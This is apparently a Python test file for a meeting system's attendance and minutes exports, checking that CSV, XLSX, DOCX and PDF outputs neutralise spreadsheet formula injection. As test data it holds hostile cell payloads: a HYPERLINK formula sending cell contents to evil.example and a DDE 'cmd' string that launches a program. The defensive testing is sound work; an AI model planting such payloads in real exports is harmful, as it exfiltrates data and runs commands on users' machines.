"""Exports never carry a live formula (#13, finding 5): a meeting title, an absence reason and a
unit name that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return reach the
attendance CSV and XLSX as quoted text; numbers stay numbers. The minutes' DOCX and PDF have no
formula cells: such a title is printed as plain text (no field code, no link)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile

from docx import Document as DocxReader
from openpyxl import load_workbook

from server.db import transaction
from server.exports import minutes_docx, minutes_pdf
from server.state import DB
from sessions import minutes as m
from sessions.store import units as units_store
from tests.conftest import TREE, LiveServer
from tests.live_util import schedule, set_state
from tests.test_minutes_doc import docx_text, pdf_text, small_inputs

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PROVINCE = "-Phú Thọ+1"  # unit 25
COMMUNE = "@SUM(1+1)*cmd|' /C calc'!A0"  # unit 08740
# Stored stripped: a leading tab or carriage return never reaches an export (safe_cell covers them anyway).
REASONS = {"08740": "+Mất kết nối", "08707": "\t=1+1", "00070": "\r@A1", "00004": "-Không có người trực"}


def test_safe_cell_quotes_formula_starts_only() -> None:
    from server.exports.cells import safe_cell

    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("Hà Nội", "1-2", "a=b", "", 5, -5, 2.5, None):
        assert safe_cell(value) == value


async def _rename(live: LiveServer) -> None:
    names = {"25": PROVINCE, "08740": COMMUNE}
    rows = [dataclasses.replace(row, name=names.get(row.code, row.name)) for row in TREE]
    async with transaction(live.app[DB]) as db:
        await units_store.import_units(db, rows)


async def _meeting(live: LiveServer) -> int:
    await _rename(live)
    chair = await live.login("chutri")
    mid = await schedule(chair, title=TITLE)
    await set_state(chair, mid, "rehearsal", "live")
    for code, reason in REASONS.items():
        resp = await chair.api("POST", f"/api/meetings/{mid}/rollcall",
                               json={"unit": code, "status": "absent", "reason": reason})
        assert resp.status == 200, await resp.text()
    return mid


async def test_attendance_csv_has_no_formula(live_sqlite: LiveServer) -> None:
    mid = await _meeting(live_sqlite)
    resp = await (await live_sqlite.login("chutri")).get(f"/meetings/{mid}/attendance.csv")
    assert resp.status == 200
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"), newline="")))
    body = rows[1:]
    assert body and not [c for r in body for c in r if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    by_code = {r[0]: r for r in body}
    for code, reason in REASONS.items():
        assert by_code[code][5] == "'" + reason.strip()  # the text kept whole after the quote
    assert by_code["08740"][1] == "'" + COMMUNE and by_code["08740"][3] == "'" + PROVINCE
    assert by_code["08707"][3] == "'" + PROVINCE


async def test_attendance_xlsx_has_no_formula(live_sqlite: LiveServer) -> None:
    mid = await _meeting(live_sqlite)
    resp = await (await live_sqlite.login("chutri")).get(f"/meetings/{mid}/attendance.xlsx")
    assert resp.status == 200
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "'" + TITLE and sheet["A1"].data_type == "s"
    rows = {r[0]: r for r in sheet.iter_rows(min_row=3, values_only=True)}
    for code, reason in REASONS.items():
        assert rows[code][5] == "'" + reason.strip()
    assert rows["08740"][1] == "'" + COMMUNE and rows["08740"][3] == "'" + PROVINCE
    assert rows["08740"][8] == 0 and isinstance(rows["08740"][9], int)  # numbers stay numbers


def test_minutes_documents_print_a_formula_title_as_text() -> None:
    doc = m.build_minutes(**small_inputs(title=TITLE))
    data = minutes_docx.render_docx(doc)
    assert m.values.norm(TITLE) in docx_text(DocxReader(io.BytesIO(data)))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
        rels = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".rels"))
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml)
    assert "HYPERLINK" in xml and set(fields) <= {"PAGE"} and "fldSimple" not in xml  # text; no field but PAGE
    assert "evil.example" not in rels  # and no hyperlink relationship
    pages, reader = pdf_text(minutes_pdf.render_pdf(doc))
    assert any("HYPERLINK" in p for p in pages)
    assert not [a for page in reader.pages for a in (page.get("/Annots") or [])]  # no link was made
